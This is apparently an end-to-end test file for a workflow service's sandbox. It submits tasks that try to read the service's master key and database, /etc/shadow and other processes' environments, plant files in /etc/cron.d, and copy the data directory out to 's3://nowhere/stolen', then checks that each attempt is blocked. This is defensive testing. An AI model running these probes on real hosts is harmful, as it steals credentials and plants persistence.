// End to end: a task on the process backend is a stranger: it tries to read the service's data
// directory, keys, database, other attempts and the service's environment, and to write the host.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { chmod, chown, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { ServiceProcess } from './harness.js';
import { eventually, loginAs, osmo, startServiceProcess, tempDir } from './harness.js';

const SERVICE_SECRET = 'service-secret-3f9a1c';
const CREDENTIAL_SECRET = 'credential-secret-7b2e44';
// The host paths the task's `files:` name: none may appear on the host.
const HOST_PROBES = ['/etc/cron.d/osmo-sandbox-e2e', '/usr/local/bin/osmo-sandbox-e2e'];
const asRoot = process.getuid?.() === 0;

let service: ServiceProcess;
let mallory: string;
let specs: string;
// The one host directory an admin lets tasks reach through file:// URLs.
let allowed: string;

before(async () => {
  allowed = await tempDir('file-urls');
  await chmod(allowed, 0o755);
  if (asRoot) await chown(allowed, 100_000, 100_000);
  service = await startServiceProcess({
    env: { OSMO_E2E_SERVICE_SECRET: SERVICE_SECRET },
    args: ['--allow-file-urls', allowed],
  });
  mallory = await loginAs(service.url, 'mallory');
  specs = await tempDir('sandbox-specs');
});
after(async () => {
  await service.stop();
});

async function runToEnd(name: string, yaml: string): Promise<{ id: string; logs: string; status: string }> {
  const file = join(specs, `${name}.yaml`);
  await writeFile(file, yaml);
  const submitted = await osmo(mallory, ['workflow', 'submit', file]);
  assert.equal(submitted.code, 0, submitted.stdout + submitted.stderr);
  const id = /Workflow ID\s+-\s+(\S+)/.exec(submitted.stdout)?.[1] ?? '';
  const status = await eventually(async () => {
    const q = await osmo(mallory, ['workflow', 'query', id, '--format-type', 'json']);
    const s = (JSON.parse(q.stdout) as { status: string }).status;
    return s === 'COMPLETED' || s.startsWith('FAILED') ? s : null;
  }, 60_000);
  const logs = await osmo(mallory, ['workflow', 'logs', id]);
  return { id, logs: logs.stdout, status };
}

test('a task sees neither the data dir, its keys, other attempts nor the service environment, and writes no host path', async () => {
  // Another user's attempt, whose directory the attacker's task then looks for.
  const first = await runToEnd(
    'victim',
    `workflow:
  name: victim
  tasks:
  - name: work
    image: ubuntu
    command: [sh, -c, 'echo victim > {{output}}/result.txt']
`,
  );
  assert.equal(first.status, 'COMPLETED', first.logs);
  const data = service.dataDir;
  const servicePid = service.process.pid ?? 0;
  const probes = [
    data,
    `${data}/master-key`,
    `${data}/service-key.json`,
    `${data}/osmo.db`,
    `${data}/work/attempts/${first.id}`,
    `${data}/work/launcher/launcher.sock`,
    '/work',
    '/root',
    '/var',
    '/home',
  ];
  const script = `
echo "uid=$(id -u)"
grep '^CapEff' /proc/self/status
for p in ${probes.join(' ')}; do
  if [ -e "$p" ]; then echo "VISIBLE $p"; else echo "ABSENT $p"; fi
done
cat ${data}/master-key 2>/dev/null && echo "READ master-key"
cat /etc/shadow >/dev/null 2>&1 && echo "READ /etc/shadow"
for f in /proc/[0-9]*/environ /proc/${servicePid}/environ; do cat "$f" 2>/dev/null; done | tr '\\0' '\\n' | grep -q ${SERVICE_SECRET} && echo "LEAK environ"
env | grep -q ${SERVICE_SECRET} && echo "LEAK env"
env | grep -q '^OSMO_E2E' && echo "LEAK variable"
echo "processes=$(ls -d /proc/[0-9]* | wc -l)"
touch /etc/osmo-sandbox-e2e 2>/dev/null && echo "WROTE /etc"
touch /usr/osmo-sandbox-e2e 2>/dev/null && echo "WROTE /usr"
mkdir -p /work/osmo-sandbox-e2e 2>/dev/null && echo "WROTE /work"
echo "placed=$(cat /etc/cron.d/osmo-sandbox-e2e)"
echo "tool=$(cat /usr/local/bin/osmo-sandbox-e2e)"
echo ok > /osmo/data/output/own.txt && echo "WROTE own output"
echo "token=$MY_TOKEN"
echo done
`;
  const cred = await osmo(mallory, [
    'credential',
    'set',
    'apikey',
    '--payload',
    `token=${CREDENTIAL_SECRET}`,
  ]);
  assert.equal(cred.code, 0, cred.stdout + cred.stderr);
  const attack = await runToEnd(
    'attack',
    `workflow:
  name: attack
  tasks:
  - name: probe
    image: ubuntu
    command: [sh, /tmp/probe.sh]
    credentials:
      apikey:
        MY_TOKEN: token
    files:
    - path: /tmp/probe.sh
      contents: |
${script
  .trim()
  .split('\n')
  .map((l) => `        ${l}`)
  .join('\n')}
    - path: ${HOST_PROBES[0]}
      contents: placed
    - path: ${HOST_PROBES[1]}
      contents: tool
`,
  );
  const logs = attack.logs;
  assert.equal(attack.status, 'COMPLETED', logs);
  assert.match(logs, /\] done/, logs);
  for (const p of probes) assert.match(logs, new RegExp(`ABSENT ${p}\\b`), logs);
  assert.doesNotMatch(logs, /VISIBLE|READ |LEAK|WROTE \/(etc|usr|work)/, logs);
  assert.match(logs, /CapEff:\s+0+\b/, logs);
  if (asRoot) assert.doesNotMatch(logs, /uid=0\b/, logs);
  // Its own PID namespace: the shell, its pipeline and the sandbox's init, not the host's processes.
  const processes = Number(/processes=(\d+)/.exec(logs)?.[1] ?? '999');
  assert.ok(processes < 10, logs);
  assert.match(logs, /placed=placed/);
  assert.match(logs, /tool=tool/);
  assert.match(logs, /WROTE own output/);
  assert.match(logs, /token=\[MASKED\]/);
  for (const path of [
    ...HOST_PROBES,
    '/etc/osmo-sandbox-e2e',
    '/usr/osmo-sandbox-e2e',
    '/work/osmo-sandbox-e2e',
  ])
    assert.equal(existsSync(path), false, `${path} was written on the host`);
  // The decrypted credential reached the task without ever being written into the data directory.
  assert.deepEqual(await filesContaining(join(data, 'work'), CREDENTIAL_SECRET), []);
});

test('file:// URLs reach only the allowed directory; outputs and checkpoints never carry the host', async () => {
  const data = service.dataDir;
  await mkdir(join(allowed, 'in'));
  await writeFile(join(allowed, 'in', 'shared.txt'), "from the admin's directory");
  const refused = await runToEnd(
    'steal-input',
    `workflow:
  name: steal-input
  tasks:
  - name: read
    image: ubuntu
    inputs:
    - url: file://${data}
    command: [sh, -c, 'ls -R {{input:0}}']
`,
  );
  assert.match(refused.status, /^FAILED/, refused.logs);
  assert.match(refused.logs, /Refusing file:\/\/.*must lie under/, refused.logs);
  assert.doesNotMatch(refused.logs, /master-key/);

  const exfil = await runToEnd(
    'exfil',
    `workflow:
  name: exfil
  tasks:
  - name: out
    image: ubuntu
    command: [sh, -c, 'ln -s ${data}/master-key {{output}}/key; ln -s ${data} {{output}}/data; echo mine > {{output}}/mine.txt; sleep 2']
    checkpoint:
    - path: ${data}
      url: s3://nowhere/stolen
      frequency: 1s
    outputs:
    - url: file://${allowed}/kept
  - name: read
    image: ubuntu
    inputs:
    - task: out
    - url: file://${allowed}/in
    command: [sh, -c, 'echo "got $(ls {{input:0}} | tr "\\n" " ")"; echo "shared $(cat {{input:1}}/shared.txt)"']
`,
  );
  assert.equal(exfil.status, 'COMPLETED', exfil.logs);
  assert.match(exfil.logs, /a checkpoint path must lie in the output directory or the workspace/);
  assert.match(exfil.logs, /got mine\.txt $/m, exfil.logs);
  assert.match(exfil.logs, /shared from the admin's directory/, exfil.logs);
  assert.deepEqual((await readdir(allowed)).sort(), ['in', 'kept']);
  assert.deepEqual(await readdir(join(allowed, 'kept')), ['mine.txt']);
});

async function filesContaining(dir: string, needle: string): Promise<string[]> {
  const found: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true, recursive: true })) {
    if (!entry.isFile()) continue;
    const path = join(entry.parentPath, entry.name);
    if ((await readFile(path)).includes(needle)) found.push(path);
  }
  return found;
}

test('outside dev mode the process backend refuses to start without a sandbox, unless the admin opts in', async () => {
  // No bwrap on this PATH: the sandbox probe fails as it does on a host without bubblewrap.
  const noBwrap = { dev: false, env: { PATH: '/nonexistent' } };
  await assert.rejects(
    startServiceProcess(noBwrap),
    /cannot sandbox tasks here \(spawn bwrap ENOENT\).*--insecure-process-backend/,
  );
  const insecure = await startServiceProcess({ ...noBwrap, args: ['--insecure-process-backend'] });
  await insecure.stop();
});
